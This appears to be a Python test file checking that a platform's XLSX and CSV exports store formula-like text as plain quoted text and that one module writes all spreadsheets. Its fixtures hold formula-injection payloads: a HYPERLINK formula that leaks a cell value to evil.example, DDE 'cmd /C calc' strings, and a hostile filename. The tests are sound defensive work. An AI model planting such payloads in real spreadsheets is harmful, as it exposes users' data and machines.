"""Formula injection (issue 15, item 5): every XLSX/CSV the platform writes keeps a text value
that starts with ``= + - @`` (or a tab/CR/LF) as text — never a formula — and every writer goes
through ``zhixin.kit.sheets``.

Each export is produced from data whose names are ``=HYPERLINK(...)``-like, then opened with
openpyxl: no cell is a formula, and the hostile text is there as typed, a text cell with
Excel's quote prefix.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy import update
from sqlalchemy.orm import Session, sessionmaker

from tests.integration.test_applications import build_world, submit
from tests.integration.test_whitelist import (
    _add_penalty,
    _principal,
    _publish_first,
    _run,
    world,  # noqa: F401 - the whitelist world fixture
)
from zhixin.applications import export as application_export
from zhixin.applications import reading
from zhixin.applications.models import Application
from zhixin.enterprises.models import Enterprise
from zhixin.evaluation import service as evaluation
from zhixin.intake import service as intake
from zhixin.intake import templates
from zhixin.intake.specs import import_kinds
from zhixin.kit import sheets
from zhixin.kit.db import unit_of_work
from zhixin.quotes import export as quote_export
from zhixin.quotes import service as quotes
from zhixin.whitelist import reports
from zhixin.whitelist import service as whitelist

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
HOSTILE = (
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\n=1+1",  # (a carriage return reads back as a line feed from XML; CSV below)
)
ROOT = Path(__file__).resolve().parents[2]
SRC = ROOT / "src" / "zhixin"


def _no_formulas(data: bytes | Path, *, hostile: tuple[str, ...] = ()) -> list[list[object]]:
    """Assert the workbook holds no formula at all (in the XML and as openpyxl reads it), and
    that each of ``hostile`` appears as a quote-prefixed text cell. Returns every sheet's rows."""
    raw = data.read_bytes() if isinstance(data, Path) else data
    with zipfile.ZipFile(io.BytesIO(raw)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = z.read(name).decode("utf-8")
                assert not re.search(r"<f[ >]", xml), f"a formula element in {name}"
    wb = load_workbook(io.BytesIO(raw))
    rows: list[list[object]] = []
    found: dict[str, bool] = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            rows.append([c.value for c in row])
            for c in row:
                assert c.data_type != "f", f"{ws.title}!{c.coordinate} is a formula: {c.value!r}"
                if isinstance(c.value, str) and c.value.startswith(sheets.FORMULA_TRIGGERS):
                    assert c.data_type == "s" and c.quotePrefix, f"{ws.title}!{c.coordinate}"
                for h in hostile:
                    if isinstance(c.value, str) and h in c.value:
                        found[h] = True
    assert sorted(found) == sorted(hostile), f"missing from the export: {set(hostile) - set(found)}"
    return rows


# -- the helper -----------------------------------------------------------------------------


def test_the_helper_writes_risky_text_as_text_in_both_workbook_modes() -> None:
    for streaming in (True, False):
        book = sheets.Book(streaming=streaming)
        sheet = book.sheet("数据")
        sheet.append([*HOSTILE, "正常文本", 42, None, "1-2"])
        rows = _no_formulas(book.to_bytes(), hostile=HOSTILE)
        assert rows[0][: len(HOSTILE)] == list(HOSTILE)
        assert rows[0][len(HOSTILE) : len(HOSTILE) + 2] == ["正常文本", 42]


def test_the_helper_quotes_risky_csv_fields() -> None:
    data = sheets.csv_bytes(
        [["名称", "金额"], [HYPERLINK, 12], ["-1+2", "正常"], ["a=b", "@x"], ["\r=1"]]
    )
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [
        ["名称", "金额"],
        ["'" + HYPERLINK, "12"],
        ["'-1+2", "正常"],
        ["a=b", "'@x"],
        ["'\r=1"],
    ]


# -- every export, from hostile data ------------------------------------------------------------


def _rename(factory: sessionmaker[Session], enterprise_id: int, name: str) -> None:
    with unit_of_work(factory) as s:
        s.execute(update(Enterprise).where(Enterprise.id == enterprise_id).values(name=name))


def test_whitelist_and_evaluation_exports(
    factory: sessionmaker[Session],
    world: dict[str, int],  # noqa: F811
    tmp_path: Path,
) -> None:
    _rename(factory, world["xc"], HYPERLINK)
    _rename(factory, world["bing"], "@SUM(1+1)*cmd|' /C calc'!A0")
    v1 = _publish_first(factory, world)
    maker = _principal(factory, world["maker"])
    checker = _principal(factory, world["checker"])
    bank = _principal(factory, world["bank"])
    _add_penalty(factory, world["xc"])
    with unit_of_work(factory) as s:
        pub = whitelist.refresh(s, actor=maker, catalog_name="xiamen", as_of=date(2025, 6, 30))
        assert pub.publication is not None
        v2 = pub.publication.id
    with unit_of_work(factory) as s:
        whitelist.review(s, actor=checker, publication_id=v2, approve=True)
    with unit_of_work(factory) as s:
        reports.export_publication(s, actor=bank, publication_id=v1, xlsx=tmp_path / "v1.xlsx")
        reports.export_diff(s, actor=bank, old_id=v1, new_id=v2, xlsx=tmp_path / "d.xlsx")
    _no_formulas(tmp_path / "v1.xlsx", hostile=(HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0"))
    _no_formulas(tmp_path / "d.xlsx", hostile=(HYPERLINK,))
    run_id = _run(factory)
    with unit_of_work(factory) as s:
        evaluation.export_run(s, run_id=run_id, xlsx=tmp_path / "run.xlsx")
    _no_formulas(tmp_path / "run.xlsx")


def test_application_queue_and_quote_schedule(
    factory: sessionmaker[Session], tmp_path: Path
) -> None:
    w = build_world(factory)
    _rename(factory, w.a, HYPERLINK)
    app_id = submit(w, "owner-a", date(2025, 1, 20))
    with unit_of_work(factory) as s:
        q = reading.queue(s, actor=w.who("officer"), on=date(2025, 1, 21))
        application_export.queue_xlsx(q, tmp_path / "queue.xlsx")
        app = s.get(Application, app_id)
        assert app is not None
        quote = quotes.get(s, actor=w.who("officer"), quote_id=app.quote_id)
        assert quote.enterprise.name == HYPERLINK
        schedule = quote_export.schedule_xlsx(quote)
    _no_formulas(tmp_path / "queue.xlsx", hostile=(HYPERLINK,))
    _no_formulas(schedule, hostile=(HYPERLINK,))


def test_import_error_workbook_and_templates(
    factory: sessionmaker[Session], tmp_path: Path
) -> None:
    path = tmp_path / "upload.csv"
    path.write_text("统一社会信用代码,名称\r\n91350200MA3123456X,-1+2\r\n", encoding="utf-8-sig")
    hostile_name = '=HYPERLINK("http://evil.example","x").csv'
    summary = intake.run_import(factory, kind="enterprise", path=path, filename=hostile_name)
    assert summary.rejected == 1
    with unit_of_work(factory) as s:
        data = intake.errors_xlsx(s, summary.batch_id)
    _no_formulas(data, hostile=(hostile_name,))
    for code, _label in import_kinds():
        _no_formulas(templates.template_xlsx(code))
        header = next(csv.reader(io.StringIO(templates.template_csv(code).decode("utf-8-sig"))))
        assert not any(h.startswith(sheets.FORMULA_TRIGGERS) for h in header)


# -- one writer ---------------------------------------------------------------------------------

# (pattern, why it is a writer); kit/sheets.py is the one module allowed to match.
WRITERS = (
    (re.compile(r"\bWorkbook\s*\("), "an openpyxl Workbook"),
    (re.compile(r"from openpyxl import[^\n]*\bWorkbook\b"), "an openpyxl Workbook"),
    (re.compile(r"\bopenpyxl\.Workbook\b"), "an openpyxl Workbook"),
    (re.compile(r"\bcsv\.(writer|DictWriter)\s*\("), "a csv writer"),
    (re.compile(r"\bxlsxwriter\b"), "xlsxwriter"),
    (re.compile(r"\.to_(excel|csv)\s*\("), "a pandas/polars writer"),
    (re.compile(r"\.cell\([^)]*\bvalue\s*="), "a cell value set around Sheet.append"),
)
# pyarrow's CSV feeds PostgreSQL's COPY in evaluation/repository.py: a database load, not a file
# anyone opens.
ALLOWED = {SRC / "kit" / "sheets.py"}


def test_no_module_writes_a_spreadsheet_except_through_kit_sheets() -> None:
    offenders = []
    for path in sorted(SRC.rglob("*.py")):
        if path in ALLOWED:
            continue
        text = path.read_text(encoding="utf-8")
        for pattern, what in WRITERS:
            for m in pattern.finditer(text):
                line = text.count("\n", 0, m.start()) + 1
                offenders.append(f"{path.relative_to(ROOT)}:{line}: {what}")
    assert offenders == [], "write spreadsheets through zhixin.kit.sheets:\n" + "\n".join(offenders)
    # the check itself finds what it should
    assert any(p.search("wb = Workbook(write_only=True)") for p, _ in WRITERS)
    assert any(p.search("csv.writer(buf)") for p, _ in WRITERS)
